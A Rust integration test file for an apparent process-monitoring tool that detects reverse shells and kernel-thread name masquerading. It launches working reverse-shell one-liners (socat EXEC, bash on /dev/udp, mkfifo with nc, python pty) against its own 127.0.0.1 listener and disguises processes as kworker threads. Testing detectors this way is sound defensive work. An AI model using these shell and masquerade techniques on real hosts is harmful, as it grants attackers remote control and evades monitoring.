//! Reverse shells by any plumbing, and processes dressed as kernel threads,
//! with real tools on 127.0.0.1: socat with a pty and with a socketpair
//! (upper-case `EXEC:`), over TCP and UDP, bash on `/dev/udp`, a named pipe
//! and nc run from a script file, a python pty. The attacker's side is this
//! test's own listener (or UDP socket), which accepts and holds the
//! connection. Every child is killed and reaped.

mod common;

use std::net::{TcpListener, TcpStream, UdpSocket};
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Reaped, Watcher, about_pid, finding_on, require, spawn_group, trace_text};
use necromap::model::{Finding, Severity};

/// Accept one connection within 10 s (the child may fail to start).
fn accept_within(listener: &TcpListener) -> TcpStream {
    listener.set_nonblocking(true).expect("nonblocking");
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        match listener.accept() {
            Ok((s, _)) => return s,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < deadline => std::thread::sleep(Duration::from_millis(50)),
            Err(e) => panic!("the reverse shell never connected: {e}"),
        }
    }
}

/// Refresh until `rule` fires on the process named `name` whose command
/// line contains `marker`.
fn expect_finding(rule: &str, name: &str, marker: &str) -> Finding {
    let mut w = Watcher::new();
    w.until(Duration::from_millis(200), Duration::from_secs(15), |s| finding_on(s, rule, name, marker))
        .unwrap_or_else(|| panic!("no {rule} finding on {name} `{marker}`"))
}

fn socat(args: &[String]) -> Reaped {
    require("socat");
    let mut c = Command::new("socat");
    c.args(args);
    spawn_group(c)
}

#[test]
fn socat_with_an_upper_case_exec_and_a_pty_is_critical() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let _child = socat(&[format!("TCP:127.0.0.1:{port}"), "EXEC:'bash -li',pty,stderr,setsid,sigint,sane".into()]);
    let _peer = accept_within(&listener);
    let f = expect_finding("reverse_shell_plumbing", "socat", &format!("TCP:127.0.0.1:{port}"));
    assert_eq!(f.severity, Severity::Critical);
    let trace = trace_text(&f);
    assert!(trace.contains("bash (") && trace.contains("→ /dev/pts/") && trace.contains("(master)"), "{trace}");
    // The command line says it too, whatever the case of EXEC.
    let f = expect_finding("reverse_shell_cmdline", "socat", &format!("TCP:127.0.0.1:{port}"));
    assert!(trace_text(&f).contains("EXEC:"), "{}", trace_text(&f));
}

#[test]
fn socat_handing_bash_a_socketpair_is_critical() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let _child = socat(&[format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/bash".into()]);
    let _peer = accept_within(&listener);
    let f = expect_finding("reverse_shell_plumbing", "socat", &format!("TCP:127.0.0.1:{port}"));
    assert_eq!(f.severity, Severity::Critical);
    let trace = trace_text(&f);
    assert!(trace.contains("bash (") && trace.contains("socketpair:["), "{trace}");
}

#[test]
fn socat_over_udp_handing_sh_a_socketpair_is_critical() {
    // The attacker's side: a UDP socket of this test, so nothing bounces.
    let attacker = UdpSocket::bind("127.0.0.1:0").expect("bind");
    let port = attacker.local_addr().expect("addr").port();
    let _child = socat(&[format!("UDP:127.0.0.1:{port}"), "EXEC:/bin/sh".into()]);
    let f = expect_finding("reverse_shell_plumbing", "socat", &format!("UDP:127.0.0.1:{port}"));
    assert_eq!(f.severity, Severity::Critical);
    let trace = trace_text(&f);
    assert!(trace.contains("sh (") && trace.contains("socketpair:["), "{trace}");
}

#[test]
fn bash_on_dev_udp_is_critical() {
    let attacker = UdpSocket::bind("127.0.0.1:0").expect("bind");
    let port = attacker.local_addr().expect("addr").port();
    let line = format!("/dev/udp/127.0.0.1/{port}");
    let child = common::bash(&format!("bash -i >& {line} 0>&1"), &[]);
    let root = child.pid();
    // The interactive bash is the child itself or its child (whether
    // `bash -c` forks for the redirection): either way ours.
    let mut w = Watcher::new();
    let f = w
        .until(Duration::from_millis(200), Duration::from_secs(15), |s| {
            let ours: Vec<_> = s.processes.values().filter(|p| p.facts.pid() == root || p.facts.ppid == root.0).map(|p| p.facts.pid()).collect();
            s.findings.iter().find(|f| f.rule_id.starts_with("reverse_shell") && ours.iter().any(|&p| about_pid(f, s, p))).cloned()
        })
        .unwrap_or_else(|| panic!("no reverse shell finding on bash -i >& {line}"));
    assert_eq!(f.severity, Severity::Critical, "{}: {}", f.rule_id, trace_text(&f));
    // The prompt came over UDP: it is the shell on the other end.
    attacker.set_read_timeout(Some(Duration::from_secs(5))).expect("timeout");
    let mut buf = [0u8; 512];
    assert!(attacker.recv(&mut buf).is_ok_and(|n| n > 0), "the shell wrote nothing to the attacker");
}

/// `necromap --no-store --no-trace -n snapshot --format json`, parsed.
fn snapshot_json() -> serde_json::Value {
    let out =
        Command::new(env!("CARGO_BIN_EXE_necromap")).args(["--no-store", "--no-trace", "-n", "snapshot", "--format", "json"]).output().expect("run necromap");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).expect("json")
}

/// The command line of a live pid, NULs as spaces (empty once it exited).
fn cmdline_of(pid: u32) -> String {
    std::fs::read(format!("/proc/{pid}/cmdline")).map(|b| String::from_utf8_lossy(&b).replace('\0', " ")).unwrap_or_default()
}

#[test]
fn a_kernel_thread_name_without_a_socket_is_high() {
    require("python3");
    // The interpreter itself: a wrapper (pyenv's shim) would exec it again
    // and lose argv[0].
    let out = Command::new("python3").args(["-c", "import sys; print(sys.executable)"]).output().expect("python3");
    let python = String::from_utf8(out.stdout).expect("utf8").trim().to_string();
    // No socket at all: argv[0] like a kernel worker, and an executable.
    let dressed = common::bash("exec -a '[kworker/9:9]' \"$0\" -c 'import time; time.sleep(60)'", &[&python]);
    // The near miss: the same program under its own name.
    let plain = common::bash("exec -a python3 \"$0\" -c 'import time; time.sleep(60.5)'", &[&python]);
    let (pid, plain_pid) = (dressed.pid().0, plain.pid().0);
    let deadline = Instant::now() + Duration::from_secs(15);
    while !(cmdline_of(pid).starts_with("[kworker/9:9] ") && cmdline_of(plain_pid).starts_with("python3 ")) {
        assert!(Instant::now() < deadline, "the two pythons never started: {:?} {:?}", cmdline_of(pid), cmdline_of(plain_pid));
        std::thread::sleep(Duration::from_millis(50));
    }
    let about = |f: &serde_json::Value, p: u32| f["subject"]["kind"] == "process" && f["subject"]["pid"] == p;
    let (doc, finding) = loop {
        let doc = snapshot_json();
        let found = doc["findings"].as_array().expect("findings").iter().find(|f| f["rule_id"] == "kernel_thread_masquerade" && about(f, pid)).cloned();
        if let Some(f) = found {
            break (doc, f);
        }
        assert!(Instant::now() < deadline, "no kernel_thread_masquerade finding on pid {pid}: {}", doc["findings"]);
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(finding["severity"], "high", "{finding}");
    assert!(finding["trace"].to_string().contains("[kworker/9:9]"), "{finding}");
    let process = doc["processes"].as_array().expect("processes").iter().find(|p| p["pid"] == pid).expect("the masquerading process").clone();
    assert!(process["name"].as_str().is_some_and(|n| n.starts_with("python")), "{process}");
    assert_eq!(process["severity"], "high", "{process}");
    assert!(!doc["sockets"].as_array().expect("sockets").iter().any(|s| s["pid"] == pid), "it holds no socket");
    // The plain python, no socket and no odd name, draws nothing (and is
    // not even reported: only socket owners and masquerades get facts).
    assert!(!doc["findings"].as_array().expect("findings").iter().any(|f| about(f, plain_pid)), "{}", doc["findings"]);
    assert!(!doc["processes"].as_array().expect("processes").iter().any(|p| p["pid"] == plain_pid));
}

#[test]
fn a_named_pipe_and_nc_run_from_a_script_file_are_critical() {
    require("nc");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let dir = tempfile::tempdir().expect("tmp");
    let fifo = dir.path().join("f");
    let script = dir.path().join("update.sh");
    // No process carries the one-liner on its command line: sh runs a file.
    std::fs::write(&script, format!("rm -f {f}; mkfifo {f}; cat {f} | sh -i 2>&1 | nc 127.0.0.1 {port} > {f}\n", f = fifo.display())).expect("script");
    let mut c = Command::new("sh");
    c.arg(&script);
    let _child = spawn_group(c);
    let _peer = accept_within(&listener);
    let f = expect_finding("reverse_shell_plumbing", "nc", &format!("127.0.0.1 {port}"));
    assert_eq!(f.severity, Severity::Critical);
    let trace = trace_text(&f);
    // Output: sh → pipe → nc. Input: sh ← pipe ← cat ← the named pipe ← nc.
    assert!(trace.contains("sh (") && trace.contains("pipe:[") && trace.contains(&format!("fifo {}", fifo.display())), "{trace}");
    assert!(trace.contains("cat ("), "{trace}");
}

#[test]
fn a_python_pty_reverse_shell_is_critical_twice() {
    require("python3");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let code = format!("import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')");
    let mut c = Command::new("python3");
    c.arg("-c").arg(&code);
    let _child = spawn_group(c);
    let _peer = accept_within(&listener);
    // python's own stdio is the socket, and the sh it spawned sits on a pty
    // whose master python holds.
    let marker = format!("'127.0.0.1',{port}");
    let stdio = expect_finding("reverse_shell_stdio", "python3", &marker);
    assert_eq!(stdio.severity, Severity::Critical);
    let plumbing = expect_finding("reverse_shell_plumbing", "python3", &marker);
    assert!(trace_text(&plumbing).contains("sh (") && trace_text(&plumbing).contains("/dev/pts/"), "{}", trace_text(&plumbing));
}

#[test]
fn a_process_calling_itself_a_kernel_thread_is_high() {
    require("ncat");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    // argv[0] like a kernel worker (`exec -a`), the way ps would show it.
    let by_argv = common::bash(&format!("exec -a '[kworker/0:1]' ncat 127.0.0.1 {port} < /dev/null"), &[]);
    let _peer1 = accept_within(&listener);
    let f = expect_finding("kernel_thread_masquerade", "ncat", "[kworker/0:1]");
    assert_eq!(f.severity, Severity::High);
    assert!(trace_text(&f).contains("[kworker/0:1]"), "{}", trace_text(&f));
    drop(by_argv);
    // The short name (comm) set with prctl, argv left alone.
    require("python3");
    let code =
        format!("import ctypes,socket,time;ctypes.CDLL(None).prctl(15,b'[kthreadd/2]',0,0,0);s=socket.create_connection(('127.0.0.1',{port}));time.sleep(30)");
    let mut c = Command::new("python3");
    c.arg("-c").arg(&code);
    let _by_comm = spawn_group(c);
    let _peer2 = accept_within(&listener);
    let f = expect_finding("kernel_thread_masquerade", "[kthreadd/2]", "prctl");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn the_summary_csv_and_json_of_a_live_host_carry_the_finding() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let child = socat(&[format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh".into()]);
    let _peer = accept_within(&listener);
    let pid = child.pid().0;
    // Wait until the shell is there (socat forks it after connecting).
    expect_finding("reverse_shell_plumbing", "socat", &format!("TCP:127.0.0.1:{port}"));
    let run = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_necromap")).args(args).output().expect("run necromap");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).expect("utf8")
    };
    let summary = run(&["summary"]);
    let line = format!("CRITICAL  Reverse shell: a shell's input and output run through this process's connection · pid {pid} socat");
    assert!(summary.contains(&line), "{summary}");
    let csv = run(&["snapshot", "--format", "csv", "--table", "findings"]);
    assert!(csv.lines().any(|l| l.starts_with(&format!("reverse_shell_plumbing@pid:{pid},reverse_shell_plumbing,")) && l.contains(",critical,")), "{csv}");
    let json: serde_json::Value = serde_json::from_str(&run(&["snapshot", "--format", "json"])).expect("json");
    let row = json["sockets"].as_array().expect("sockets").iter().find(|s| s["pid"] == pid && s["remote_port"] == port).expect("socat's socket").clone();
    assert_eq!(row["severity"], "critical", "{row}");
    assert!(row["rule_ids"].as_array().expect("rule ids").iter().any(|r| r == "reverse_shell_plumbing"), "{row}");
    // The connection has a round-trip time; this test's listener has no
    // peer, so none (not 0).
    assert!(row["rtt_us"].is_u64(), "{row}");
    let listening =
        json["sockets"].as_array().expect("sockets").iter().find(|s| s["local_port"] == port && s["state"] == "LISTEN").expect("the listener").clone();
    assert_eq!(listening["rtt_us"], serde_json::Value::Null, "{listening}");
    let process = json["processes"].as_array().expect("processes").iter().find(|p| p["pid"] == pid).expect("socat").clone();
    assert_eq!(process["severity"], "critical");
    assert!(process["shell_links"][0]["pid"].as_u64().is_some(), "{process}");
}
